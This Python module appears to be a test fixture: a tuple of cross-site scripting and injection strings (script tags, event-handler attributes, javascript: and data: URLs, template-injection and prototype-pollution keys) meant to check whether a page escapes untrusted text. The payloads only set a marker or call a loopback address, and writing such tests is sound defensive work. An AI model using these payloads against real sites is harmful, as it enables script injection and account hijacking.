"""Texts that run, or ask the network for something, where a page takes them for more than text."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # elements that run a script
    "<script>window.PWNED=1;alert(1)</script>",
    "</script><script>window.PWNED=1;alert(2)</script>",
    "</SCRIPT\n><script>window.PWNED=1</script>",
    "<!--<script>window.PWNED=1</script>",
    "--><script>window.PWNED=1</script><!--",
    "]]><script>window.PWNED=1</script><![CDATA[",
    "</style><script>window.PWNED=1</script>",
    "</title></textarea></noscript><script>window.PWNED=1</script>",
    '<script src="http://127.0.0.1:9/evil.js"></script>',
    '<script type="module">import "http://127.0.0.1:9/evil.js"</script>',
    # attributes that run a script
    "<img src=x onerror=window.PWNED=1>",
    "<svg onload=window.PWNED=1>",
    "<svg><animate onbegin=window.PWNED=1 attributeName=x dur=1s>",
    "<body onload=window.PWNED=1>",
    "<details open ontoggle=window.PWNED=1>",
    "<input autofocus onfocus=window.PWNED=1>",
    "<video><source onerror=window.PWNED=1></video>",
    "<iframe srcdoc='<script>parent.PWNED=1</script>'></iframe>",
    '" onmouseover=window.PWNED=1 autofocus onfocus=window.PWNED=1 x="',
    "' onclick=window.PWNED=1 style='position:fixed;inset:0' x='",
    # addresses
    "<a href=javascript:window.PWNED=1>total</a>",
    "javascript:window.PWNED=1//",
    "data:text/html,<script>opener.PWNED=1</script>",
    "<iframe src=http://127.0.0.1:9/frame></iframe>",
    "<link rel=stylesheet href=http://127.0.0.1:9/style.css>",
    "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<base href=http://127.0.0.1:9/>",
    "<form action=http://127.0.0.1:9/><button autofocus>send</button></form>",
    "<object data=http://127.0.0.1:9/x></object><embed src=http://127.0.0.1:9/y>",
    "<style>@import 'http://127.0.0.1:9/style.css'; * { background: url(http://127.0.0.1:9/z) }</style>",
    "background:url(http://127.0.0.1:9/z)",
    "http://127.0.0.1:9/ping",
    # what becomes markup or code by the way
    "&lt;script&gt;window.PWNED=1&lt;/script&gt;",
    "\\u003cscript\\u003ewindow.PWNED=1\\u003c/script\\u003e",
    "{{constructor.constructor('window.PWNED=1')()}}",
    "${window.PWNED=1}`;window.PWNED=1;//",
    "{{data}}{{script}}{{style}}",
    "__proto__",
    "constructor",
    "\u202e\u2066<img src=x onerror=window.PWNED=1>\u2069\u0000\u2028\ufeff",
)
